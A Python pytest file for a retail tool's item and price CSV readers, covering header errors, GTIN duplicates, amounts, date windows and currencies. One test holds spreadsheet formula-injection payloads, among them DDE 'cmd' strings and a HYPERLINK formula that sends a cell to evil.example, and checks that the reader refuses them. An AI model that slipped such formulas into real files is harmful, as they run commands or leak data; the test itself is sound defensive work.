"""Reading item and price files (no broker): every problem by row and column, never the
value; the records and keys a good file gives."""

from __future__ import annotations

import json
import re
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest

from tillstream.core.topics import item_key, price_key
from tillstream.masterdata.csv_file import MAX_PROBLEMS, MasterFileError
from tillstream.masterdata.items_csv import gtin_clashes, read_items
from tillstream.masterdata.prices_csv import currency_clashes, describe_key, read_prices
from tillstream.simulate.catalog import CATALOG, DEPOSITS, items_csv, prices_csv

ITEMS = "sku,gtins,description,unit_of_measure,weighed,stock_item"
PRICES = "sku,store_id,amount,currency,valid_from,valid_until"


def write(tmp_path: Path, text: str, name: str = "f.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def problems(path: Path, read: object = read_items) -> MasterFileError:
    with pytest.raises(MasterFileError) as caught:
        read(path)  # type: ignore[operator]
    return caught.value


def test_a_good_item_file_gives_whole_items_by_key(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "\ufeff" + ITEMS + ",reorder_point,supplier,note\n"  # a BOM, an unknown column
        "MILK,4006381333931|96385074,Milk 1 l,ea,FALSE,True,24.5,Dairy,x\n"
        "\n"  # blank rows are skipped
        'APPLES,,"Apples, loose",kgm,true,true,,,\n',
    )
    items = read_items(path)
    assert list(items) == [item_key("MILK"), item_key("APPLES")]
    milk = items[item_key("MILK")]
    assert milk == {
        "sku": "MILK",
        "gtins": ["4006381333931", "96385074"],
        "description": "Milk 1 l",
        "unit_of_measure": "EA",
        "weighed": False,
        "stock_item": True,
        "tax_class": None,
        "reorder_point": Decimal("24.5"),
        "lead_time_days": None,  # not in the header: null
        "supplier": "Dairy",
    }
    assert items[item_key("APPLES")]["unit_of_measure"] == "KGM"


def test_problems_are_listed_up_to_a_limit(tmp_path: Path) -> None:
    rows = "".join(f"SKU-{n},,Item,BOX,false,true\n" for n in range(MAX_PROBLEMS + 50))
    error = problems(write(tmp_path, ITEMS + "\n" + rows))
    assert len(error.problems) == MAX_PROBLEMS and not error.complete
    assert f"stopped after the first {MAX_PROBLEMS}" in str(error)
    assert str(error.problems[0]) == (
        "row 2, column 'unit_of_measure': not a unit of measure tillstream reads (UN/ECE Rec "
        "20 codes of pieces, weight, volume and length: EA, C62, PCE, KGM, GRM, LBR, LTR, MTR...)"
    )


def test_every_header_problem_is_named_at_once(tmp_path: Path) -> None:
    error = problems(write(tmp_path, "sku,SKU,description,weighed\n"))
    assert [str(p) for p in error.problems] == [
        "row 1, column 'sku': column appears twice",
        "row 1, column 'gtins': the header has no gtins column "
        "(needed: sku, gtins, description, unit_of_measure, weighed, stock_item)",
        "row 1, column 'unit_of_measure': the header has no unit_of_measure column "
        "(needed: sku, gtins, description, unit_of_measure, weighed, stock_item)",
        "row 1, column 'stock_item': the header has no stock_item column "
        "(needed: sku, gtins, description, unit_of_measure, weighed, stock_item)",
    ]
    assert "empty file" in str(problems(write(tmp_path, "")))


@pytest.mark.parametrize(
    "cell",
    [
        "4111111111111111",  # a card number as a GTIN
        "4111 1111 1111 1111",
        "4006381333931|5500000000000004",
    ],
)
def test_a_card_number_is_named_and_never_quoted(tmp_path: Path, cell: str) -> None:
    error = problems(write(tmp_path, f"{ITEMS},supplier\nA,{cell},Milk,EA,false,true,{cell}\n"))
    assert {(p.row, p.column) for p in error.problems} == {(2, "gtins"), (2, "supplier")}
    assert "1111" not in str(error) and "0004" not in str(error)


def test_a_good_price_file_keys_each_window(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        PRICES + "\n"
        "MILK,,1.19,EUR,,\n"
        "MILK,S001,1.09,EUR,2026-03-01,2026-03-01\n"  # one day: until is inclusive
        "MILK,S001,0.99,EUR,2026-03-02T08:00:00+01:00,2026-03-03\n"  # a time, then a day
        "MILK,,1.29,EUR,2026-04-01T00:00:00Z,\n",
    )
    prices = read_prices(path)
    keys = list(prices)
    assert keys == [
        price_key(None, "MILK", None),
        price_key("S001", "MILK", "2026-03-01"),
        price_key("S001", "MILK", "2026-03-02T07:00:00+00:00"),
        price_key(None, "MILK", "2026-04-01T00:00:00+00:00"),
    ]
    assert [describe_key(k) for k in keys] == [
        "*/MILK/-",
        "S001/MILK/2026-03-01",
        "S001/MILK/2026-03-02T07:00:00+00:00",
        "*/MILK/2026-04-01T00:00:00+00:00",
    ]
    timed = prices[keys[2]]
    assert timed["valid_from"] == datetime(2026, 3, 2, 7, tzinfo=UTC)
    assert timed["valid_from"].tzinfo is not None
    assert (timed["valid_from_day"], timed["valid_until_day"]) == (None, date(2026, 3, 3))
    assert isinstance(timed["amount"], Decimal) and timed["amount"] == Decimal("0.99")


def test_a_day_until_and_a_time_from_are_compared_in_utc(tmp_path: Path) -> None:
    # Until the end of 1 March (UTC midnight of the 2nd) is after 23:00 UTC on the 1st...
    ok = "MILK,,1,EUR,2026-03-01T23:00:00Z,2026-03-01\n"
    assert read_prices(write(tmp_path, PRICES + "\n" + ok))
    # ...but not after midnight UTC on the 2nd.
    bad = "MILK,,1,EUR,2026-03-02T00:00:00Z,2026-03-01\n"
    error = problems(write(tmp_path, PRICES + "\n" + bad, "bad.csv"), read_prices)
    assert [str(p) for p in error.problems] == ["row 2, column 'valid_until': not after valid_from"]


def test_the_simulated_catalog_is_a_valid_item_master_and_price_list(tmp_path: Path) -> None:
    items = read_items(write(tmp_path, items_csv(), "items.csv"))
    assert len(items) == len(CATALOG) + len(DEPOSITS)
    deposit = items[item_key("DEPOSIT-PET")]
    assert deposit["stock_item"] is False and deposit["reorder_point"] is None
    prices = read_prices(write(tmp_path, prices_csv(), "prices.csv"))
    assert prices[price_key(None, "MILK-1L", None)]["amount"] == Decimal("1.19")


@pytest.mark.parametrize(
    "row",
    [
        "MILK,,1,EUR,2026-03-01,9999-12-31",  # SAP's "for ever"
        "MILK,,1,EUR,2026-03-01T00:00:00Z,9999-12-31",
        "MILK,,1,EUR,0001-01-01,9999-12-31T23:59:59Z",
    ],
)
def test_the_last_day_of_the_calendar_is_a_day_like_any_other(tmp_path: Path, row: str) -> None:
    assert len(read_prices(write(tmp_path, f"{PRICES}\n{row}\n"))) == 1


def test_values_out_of_range_are_problems_not_crashes(tmp_path: Path) -> None:
    # A start in the year 10000 in UTC (an end in 9999 is open-ended: see below).
    prices = write(tmp_path, f"{PRICES}\nMILK,,1,EUR,9999-12-31T23:00:00-05:00,\n", "p.csv")
    error = problems(prices, read_prices)
    assert [str(p) for p in error.problems] == [
        "row 2, column 'valid_from': out of range in UTC (years 1 to 9999)"
    ]
    items = write(tmp_path, f"{ITEMS},lead_time_days\nA,,Milk,EA,false,true,{'9' * 5000}\n")
    error = problems(items)
    assert [str(p) for p in error.problems] == [
        "row 2, column 'lead_time_days': must be a whole number from 0 to 3650"
    ]
    assert read_items(write(tmp_path, f"{ITEMS},lead_time_days\nA,,Milk,EA,false,true,0003\n"))


def test_a_file_that_cannot_be_read_says_so(tmp_path: Path) -> None:
    error = problems(tmp_path / "missing.csv")
    assert [str(p) for p in error.problems] == ["cannot read: No such file or directory"]
    latin1 = tmp_path / "latin1.csv"
    latin1.write_bytes(f"{ITEMS}\nA,,Caf\xe9,EA,false,true\n".encode("latin-1"))
    assert "not UTF-8 text" in str(problems(latin1))


# -- hardening round 3 (issue 23): head office's files, as strictly as the docs say ---------


@pytest.mark.parametrize(
    "until",
    ["9999-12-31", "9999-12-31T23:59:59Z", "9999-12-31T23:00:00-05:00", "9999-01-01"],
)
def test_an_end_in_the_year_9999_is_published_as_open_ended(tmp_path: Path, until: str) -> None:
    forever = read_prices(write(tmp_path, f"{PRICES}\nMILK,,1,EUR,2026-03-01,{until}\n"))
    empty = read_prices(write(tmp_path, f"{PRICES}\nMILK,,1,EUR,2026-03-01,\n", "empty.csv"))
    assert forever == empty  # one record: the same as an empty valid_until
    (price,) = forever.values()
    assert price["valid_until"] is None and price["valid_until_day"] is None
    # The year before is an end like any other.
    kept = read_prices(write(tmp_path, f"{PRICES}\nMILK,,1,EUR,,9998-12-31\n", "kept.csv"))
    assert next(iter(kept.values()))["valid_until_day"] == date(9998, 12, 31)


def test_a_gtin_in_two_lengths_is_one_gtin(tmp_path: Path) -> None:
    error = problems(
        write(
            tmp_path,
            f"{ITEMS}\n"
            "A,4006381333931,Milk,EA,false,true\n"
            "B,04006381333931,Milk too,EA,false,true\n"  # the same GTIN, as a GTIN-14
            "C,96385074|00000096385074,Twice,EA,false,true\n",  # in one cell
        )
    )
    assert [str(p) for p in error.problems] == [
        "row 3, column 'gtins': a GTIN of row 2 too",
        "row 4, column 'gtins': a GTIN is listed twice (in the same or another length)",
    ]
    # Across files (the master the topic would hold): the same rule.
    master = [{"sku": "A", "gtins": ["4006381333931"]}, {"sku": "B", "gtins": ["04006381333931"]}]
    assert gtin_clashes(master) == ["GTIN 04006381333931 would be on A and on B"]


@pytest.mark.parametrize(
    "amount", ["1e3", "1E3", "\uff11.00", "1_000", "1,00", "+1", " 1 .0", "١", "0x10", "1.2.3"]
)
def test_an_amount_is_ascii_digits_and_a_point(tmp_path: Path, amount: str) -> None:
    path = write(tmp_path, f'{PRICES}\nMILK,,"{amount}",EUR,,\n')
    error = problems(path, read_prices)
    assert [str(p) for p in error.problems] == [
        "row 2, column 'amount': not a decimal number (ASCII digits, a '.' for the decimal point)"
    ]
    items = write(tmp_path, f'{ITEMS},reorder_point\nA,,Milk,EA,false,true,"{amount}"\n', "i.csv")
    assert [(p.row, p.column) for p in problems(items).problems] == [(2, "reorder_point")]


@pytest.mark.parametrize("amount", ["1", "1.5", "1.", ".5", "0.0000", "0012.30"])
def test_amounts_as_the_docs_say_are_read(tmp_path: Path, amount: str) -> None:
    (price,) = read_prices(write(tmp_path, f"{PRICES}\nMILK,,{amount},EUR,,\n")).values()
    assert price["amount"] == Decimal(amount)


@pytest.mark.parametrize(
    "cell",
    [
        "Milk\x00 1 l",  # NUL: PostgreSQL refuses it in text
        "Milk \x1b[31m1 l",  # ESC: a terminal sequence through tail
        "Milk\n1 l",
        "Milk\r\n1 l",
        "Milk\t1 l",
        "Milk 1 l\n",  # around the value too
        "Milk\x7f",  # DEL
        "Milk\x9b31m",  # C1 CSI
        "Milk\u20281 l",  # a line separator
    ],
)
def test_control_characters_are_refused_by_row_and_column(tmp_path: Path, cell: str) -> None:
    quoted = cell.replace('"', '""')
    path = write(
        tmp_path,
        f'{ITEMS},tax_class,supplier\nA,,"{quoted}",EA,false,true,"{quoted}",Dairy\n'
        f'B,,Bread,EA,false,true,STD,"{quoted}"\n',
    )
    error = problems(path)
    assert [(p.row, p.column) for p in error.problems] == [
        (2, "description"),
        (2, "tax_class"),
        (3, "supplier"),
    ]
    assert all("control character" in p.message for p in error.problems)
    assert "Milk" not in str(error)  # never the value


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        '@HYPERLINK("http://evil.example/?"&A1,"Milk")',
        "@SUM(1+1)",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '-HYPERLINK("x")',
        "\uff1dcmd|' /C calc'!A0",  # full-width =
    ],
)
def test_spreadsheet_formulas_are_refused_by_row_and_column(tmp_path: Path, cell: str) -> None:
    quoted = cell.replace('"', '""')
    path = write(tmp_path, f'{ITEMS},supplier\nA,,"{quoted}",EA,false,true,"{quoted}"\n')
    error = problems(path)
    assert [(p.row, p.column) for p in error.problems] == [(2, "description"), (2, "supplier")]
    assert all("spreadsheet formula" in p.message for p in error.problems)
    assert "cmd" not in str(error) and "HYPERLINK" not in str(error)


@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1"])
def test_a_formula_behind_a_tab_or_cr_is_refused_too(tmp_path: Path, cell: str) -> None:
    path = write(tmp_path, f'{ITEMS}\nA,,"{cell}",EA,false,true\n')
    assert [(p.row, p.column) for p in problems(path).problems] == [(2, "description")]


def test_text_that_only_looks_like_a_number_or_a_dash_inside_is_text(tmp_path: Path) -> None:
    path = write(
        tmp_path, f"{ITEMS}\nA,,Milk - 1 l = 1.03 kg @ 4°C,EA,false,true\nB,,-1,EA,false,true\n"
    )
    assert len(read_items(path)) == 2


def test_a_store_and_the_chain_price_in_one_currency(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        f"{PRICES}\n"
        "MILK,,1.19,EUR,,\n"
        "BREAD,,2.00,USD,,\n"  # the chain in two currencies
        "MILK,S001,0.99,EUR,,\n"
        "BREAD,S001,1.99,CHF,,\n"  # a store in two
        "MILK,S002,1.50,CHF,,\n",  # another store in its own: fine
    )
    error = problems(path, read_prices)
    assert [str(p) for p in error.problems] == [
        "row 3, column 'currency': the chain's prices are in EUR (row 2): one currency per store",
        "row 5, column 'currency': this store's prices are in EUR (row 4): one currency per store",
    ]
    # Against what the topic holds: the same rule over the whole master.
    held = [{"store_id": None, "currency": "EUR"}, {"store_id": "S1", "currency": "EUR"}]
    wanted = [{"store_id": "S1", "currency": "USD"}, {"store_id": "S2", "currency": "USD"}]
    assert currency_clashes([*held, *wanted]) == ["store S1 would have prices in EUR and in USD"]


def test_the_docs_examples_are_read_and_the_json_shows_their_items(tmp_path: Path) -> None:
    """docs/master-data.md: its item and price files are files the command publishes, and
    its JSON answers show those files' items and prices, not others."""
    docs = (Path(__file__).resolve().parent.parent / "docs" / "master-data.md").read_text()
    item_file, price_file = re.findall(r"```csv\n(.*?)```", docs, re.S)
    items = read_items(write(tmp_path, item_file, "items.csv"))
    prices = read_prices(write(tmp_path, price_file, "prices.csv"))
    skus = {item["sku"] for item in items.values()}
    answers = [json.loads(block) for block in re.findall(r"```json\n(.*?)```", docs, re.S)]
    shown = [answers[0], *answers[2]["items"], *answers[3]["prices"]]
    live = [entry for entry in shown if not entry.get("deleted")]
    assert live and {entry["sku"] for entry in live} <= skus
    milk = items[item_key("MILK-1L")]
    assert {k: answers[0][k] for k in ("description", "gtins", "tax_class")} == {
        k: milk[k] for k in ("description", "gtins", "tax_class")
    }
    assert {entry["id"].encode() for entry in answers[3]["prices"] if not entry["deleted"]} == set(
        prices
    )


def test_the_docs_feeds_say_where_each_deletion_they_show_comes_from() -> None:
    """docs/master-data.md: a deletion in a feed example of a SKU the page's files do not
    have is explained just above its example (a ``--full`` file that left it out), so a
    reader does not look for it in the files."""
    docs = (Path(__file__).resolve().parent.parent / "docs" / "master-data.md").read_text()
    files = re.findall(r"```csv\n(.*?)```", docs, re.S)
    skus = {row.split(",", 1)[0] for text in files for row in text.splitlines()[1:]}
    unexplained = []
    for block in re.finditer(r"```json\n(.*?)```", docs, re.S):
        answer = json.loads(block[1])
        entries = [*answer.get("items", []), *answer.get("prices", [])]
        # The paragraph above the example, or above the command that asks for it.
        intro = " ".join(" ".join(docs[: block.start()].split("\n\n")[-3:]).split())
        explained = {sku for sku in re.findall(r"`([A-Z0-9-]+)`", intro) if "--full" in intro}
        unexplained += [
            entry["sku"]
            for entry in entries
            if entry.get("deleted") and entry["sku"] not in skus | explained
        ]
    assert not unexplained, f"deletions the page does not explain: {unexplained}"
